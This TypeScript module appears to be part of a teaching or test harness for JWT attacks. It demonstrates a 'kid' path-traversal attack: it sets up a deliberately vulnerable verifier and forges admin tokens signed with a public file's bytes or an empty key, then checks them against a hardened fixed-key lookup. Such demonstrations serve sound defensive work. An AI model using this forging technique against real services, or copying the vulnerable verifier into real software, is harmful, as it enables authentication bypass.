import { createHmac, randomBytes } from "node:crypto";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { decodeProtectedHeader } from "jose";
import jwt from "jsonwebtoken";
import { type Attack, type Shot, shoot } from "./attack";
import { signingInput } from "./throw-away-keys";

/** A file that the site serves to everybody. */
const LOGO = "<svg xmlns='http://www.w3.org/2000/svg'/>";

/** A key id that leads out of the folder of keys. */
export const kidPath: Attack = {
  title: "A key id that is a path",
  move: "The attacker lets “kid” point at a file that everybody can download, and signs with its bytes.",
  precondition:
    "The key is looked up by a name from the token, in files or in SQL.",
  mistake:
    "The header is read before anything is verified; here it chooses the file. The algorithm is pinned, and that does not help. An empty file does it too: jsonwebtoken refuses an empty string, and takes an empty Buffer.",
  remedy: "Look it up in a fixed list; what is not there is refused.",
  sources: [
    { id: "rfc8725", at: "§ 3.10" },
    { id: "rfc7515", at: "§ 4.1.4" },
  ],

  async fire() {
    const site = await mkdtemp(join(tmpdir(), "attacked-site-"));
    try {
      return await fireAt(site);
    } finally {
      await rm(site, { recursive: true, force: true });
    }
  },
};

async function fireAt(site: string): Promise<Shot[]> {
  const folder = join(site, "keys");
  const secret = randomBytes(32);
  await mkdir(folder);
  await writeFile(join(folder, "2026-11"), secret);
  await writeFile(join(site, "logo.svg"), LOGO);
  await writeFile(join(site, "empty"), "");
  const keys = new Map([["2026-11", secret]]);

  async function vulnerableVerify(token: string) {
    // #region naive
    const { kid = "" } = decodeProtectedHeader(token);
    const key = await readFile(join(folder, kid));
    return jwt.verify(token, key, { algorithms: ["HS256"] });
    // #endregion naive
  }
  async function hardenedVerify(token: string) {
    // #region hardened
    const { kid = "" } = decodeProtectedHeader(token);
    const key = keys.get(kid);
    if (key === undefined) throw new Error("unknown kid");
    return jwt.verify(token, key, { algorithms: ["HS256"] });
    // #endregion hardened
  }
  const doors = { naive: vulnerableVerify, hardened: hardenedVerify };
  const signed = (claims: object, key: string | Buffer, keyid: string) =>
    jwt.sign(claims, key, { algorithm: "HS256", keyid });
  const forged = signed({ sub: "alice", role: "admin" }, LOGO, "../logo.svg");
  const input = signingInput(
    { alg: "HS256", kid: "../empty" },
    { sub: "alice", role: "admin" },
  );
  const mac = createHmac("sha256", "").update(input).digest("base64url");
  return [
    await shoot(
      "owner",
      "kid 2026-11, the server’s key",
      signed({ sub: "alice" }, secret, "2026-11"),
      doors,
    ),
    await shoot("attacker", "kid ../logo.svg", forged, doors),
    await shoot(
      "attacker",
      "kid ../empty, a file without bytes",
      `${input}.${mac}`,
      doors,
    ),
  ];
}
